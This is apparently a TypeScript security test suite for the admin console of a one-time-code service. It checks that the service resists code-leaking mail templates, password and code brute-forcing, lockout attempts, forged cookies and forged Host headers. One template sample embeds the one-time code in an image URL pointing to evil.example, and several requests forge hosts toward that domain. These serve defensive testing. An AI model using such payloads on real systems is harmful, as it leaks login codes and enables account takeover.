import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { readConfig } from '../../src/config/config.ts'
import { openContext } from '../../src/context.ts'
import { addAccount, codeOf as codeOfApp, hidden, nextStep } from '../support/accounts.ts'
import { password, passwordHash, Visitor } from '../support/console.ts'
import { temporaryFolder } from '../support/folder.ts'
import { programEnv, programLine } from '../support/program.ts'
import { otpost } from '../support/server.ts'
import { type Attack, attack, behindProxy, hasWarned, type Target } from './attack.ts'

const withPassword = { ADMIN_PASSWORD_HASH: passwordHash, ...behindProxy }
const wrong = { password: 'not the password' }
const weak = ['password', 'Tr0ub4dor&3xyz', 'passwordpassword', '123456789012345', 'a'.repeat(20)]

/** A browser at an IP address, without a screen, that follows nothing by itself. */
function browser(target: Target, ip = '198.51.100.1'): Visitor {
  const request: Target['request'] = (method, path, init) =>
    target.request(method, path, { ...init, redirect: 'manual' })
  return new Visitor({ request }, { 'x-forwarded-for': ip })
}

/** Whether `admin password` accepts a password. */
async function isAccepted(word: string): Promise<boolean> {
  const stdio = { stdin: Buffer.from(`${word}\n`), stdout: 'ignore', stderr: 'ignore' } as const
  return (await Bun.spawn(programLine(['admin', 'password']), { env: programEnv(), ...stdio }).exited) === 0
}

/** Loads its image from another server. */
const leakingHtml = '<p>Welcome</p><img src="https://evil.example/?c={{otp}}">'

async function codeOf(target: Target, to: string): Promise<string> {
  return /\d{6}/.exec((await target.messages(to)).at(-1)?.text ?? '')?.[0] ?? ''
}

export const consoleAttacks: readonly Attack[] = [
  attack(
    'a code in the image URL of a mail, stored in the console or by a command',
    withPassword,
    async (target, check) => {
      const parts = { lang: 'en', subject: 'Code', text: '{{otp}}', html: leakingHtml }
      const mailText = { ...parts, channel: 'EMAIL' as const }
      const visitor = await browser(target).enter()
      const form = { ...mailText, templateKey: 'LOGIN_OTP', version: '0' }
      const { status } = await visitor.post('/admin/brands/acme/texts', form)
      check(status === 409, `the console: ${status}`)
      const folder = temporaryFolder()
      const file = join(folder.path, 'mail')
      writeFileSync(file, leakingHtml)
      const set = ['text', 'set', 'acme', 'LOGIN_OTP', '--email', '--subject', 'Code']
      const { code } = await otpost([...set, '--file', file, '--html', file], target.env)
      folder.remove()
      check(code !== 0, 'the command stores it')
    },
  ),
  attack(
    'a fixed code for the phone of a customer, by an operator, an owner and a command',
    { ...withPassword, PUBLIC_URL: 'http://localhost:3000' },
    async (target, check) => {
      const phone = '+44 7911 123456'
      await target.post('/otp/send', { phone })
      const verified = await target.post('/otp/verify', { phone, otp: await codeOf(target, phone) })
      check(verified.status === 200, `the customer cannot verify: ${verified.status}`)
      const until = new Date().toISOString().slice(0, 10)
      const fields = { phone: '00447911123456', brand: 'acme', until }
      const owner = await browser(target).enter()
      const added = await owner.post('/admin/review-numbers', fields)
      check(added.status === 409, `an owner: ${added.status}`)
      const add = ['review-number', 'add', phone, '--brand', 'second', '--until', until]
      check((await otpost(add, target.env)).code !== 0, 'the command adds it')
      const context = await openContext(readConfig(target.env))
      const clock = { now: Date.now() }
      const ana = await addAccount({ app: { context }, clock }, 'ana@example.com', 'operator')
      await context.close()
      const visitor = browser(target)
      const next = await nextStep(visitor, ana.email)
      await visitor.post('/admin/login/code', { next, code: ana.code() })
      await visitor.get('/admin')
      const other = await visitor.post('/admin/review-numbers', { ...fields, phone: '+44 7911 654321' })
      check(other.status === 403, `an operator, with another number: ${other.status}`)
    },
  ),
  attack(
    "a new authenticator app and password for an operator's open session",
    behindProxy,
    async (target, check) => {
      const context = await openContext(readConfig(target.env))
      const clock = { now: Date.now() }
      const ana = await addAccount({ app: { context }, clock }, 'ana@example.com', 'operator')
      const visitor = browser(target)
      const next = await nextStep(visitor, ana.email)
      await visitor.post('/admin/login/code', { next, code: ana.code() })
      const { html } = await visitor.get('/admin/account')
      const secret = hidden(html, 'secret')
      const uri = context.consoleSecrets.totpUri(ana, secret, 'localhost') ?? ''
      await context.close()
      const fields = { secret, code: codeOfApp(uri, Date.now()), password: 'vessel-19-quartz-lantern' }
      const { status } = await visitor.post('/admin/account/app', fields)
      check(status === 409, `without the present password: ${status}`)
    },
  ),
  {
    title: 'weak passwords for the console',
    async play(check) {
      for (const word of weak) check(!(await isAccepted(word)), `${word} is accepted`)
      check(await isAccepted('vessel-19-quartz-lantern'), 'a strong one is not accepted')
    },
  },
  attack(
    '250 wrong passwords from 25 IP addresses, to lock the operator out',
    withPassword,
    async (target, check) => {
      const known = await browser(target).enter()
      for (let count = 0; count < 250; count++)
        await browser(target, `203.0.113.${count % 25}`).post('/admin/login', wrong)
      const { status } = await known.post('/admin/login', { password })
      check(status === 303, `the operator, in a browser of an earlier session: ${status}`)
      const other = await browser(target, '198.51.100.2').post('/admin/login', { password })
      const waitSeconds = Number(other.headers.get('retry-after') ?? 0)
      check(waitSeconds <= 60, `the operator, in another browser: waits ${waitSeconds} s`)
    },
  ),
  attack(
    "guessed and used codes of an operator's app, with the password",
    behindProxy,
    async (target, check) => {
      const context = await openContext(readConfig(target.env))
      const clock = { now: Date.now() }
      const ana = await addAccount({ app: { context }, clock }, 'ana@example.com', 'operator')
      await context.close()
      const enter = async (visitor: Visitor, code: string) => {
        const next = await nextStep(visitor, ana.email)
        return (await visitor.post('/admin/login/code', { next, code })).status
      }
      const known = browser(target)
      const used = ana.code()
      check((await enter(known, used)) === 303, 'the operator cannot sign in')
      let last = 0
      for (let count = 0; count < 30; count++) {
        last = await enter(browser(target, `203.0.113.${count}`), count === 0 ? used : '000000')
        check(last !== 303, `code ${count} is accepted`)
      }
      check(last === 429, `the last: ${last}`)
      clock.now += 30_000
      const status = await enter(known, ana.code())
      check(status === 303, `the operator, in a browser of an earlier session: ${status}`)
    },
  ),
  attack('40 wrong passwords from one IP address', withPassword, async (target, check) => {
    const visitor = browser(target)
    let last = 0
    for (let count = 0; count < 40; count++) last = (await visitor.post('/admin/login', wrong)).status
    check(last === 429, `the last: ${last}`)
  }),
  attack('wrong passwords that leave no IP address in the log', withPassword, async (target, check) => {
    await browser(target, '203.0.113.9').post('/admin/login', wrong)
    check(await hasWarned(target, /203\.0\.113\.9/), 'no warning has it')
  }),
  attack('a forged flash cookie, to show words in the console', withPassword, async (target, check) => {
    const visitor = await browser(target).enter()
    const words = JSON.stringify(['good', 'Call 555 0100'])
    const signature = Buffer.alloc(32).toString('base64url')
    for (const forged of [encodeURIComponent(words), Buffer.from(words).toString('base64url')]) {
      for (const value of [forged, `${forged}.${signature}`, `${signature}.${forged}`]) {
        // The former name and the present one.
        for (const name of ['otpost_said', 'otpost_flash']) visitor.cookies.set(name, value)
        const { html, status } = await visitor.get('/admin')
        check(status === 200 && !html.includes('Call 555 0100'), `${status}, with the words`)
      }
    }
  }),
  attack('/admin/link, to learn whether a sign-in link is live', {}, async (target, check) => {
    const look = async () => {
      const { status, body } = await target.request('GET', '/admin/link', {
        headers: { accept: 'text/html' },
      })
      return `${status} ${body}`
    }
    const before = await look()
    const { code, stderr } = await otpost(['admin', 'link'], target.env)
    check(code === 0, stderr)
    const after = await look()
    check(before === after, `${before.slice(0, 3)} without a link, ${after.slice(0, 3)} with one`)
  }),
  attack(
    'a Host header in the curl line of the page that shows a new key',
    withPassword,
    async (target, check) => {
      const visitor = await browser(target).enter()
      const headers = [
        { host: 'evil.example' },
        { host: 'localhost:6666' },
        { 'x-forwarded-host': 'evil.example' },
      ]
      for (const [index, forged] of headers.entries()) {
        const form = { 'sec-fetch-site': 'same-origin', ...forged }
        const { html } = await visitor.post('/admin/apps/issue', { appId: `app${index}` }, form)
        for (const name of Object.values(forged)) check(!html.includes(name), `it shows ${name}`)
      }
    },
  ),
]
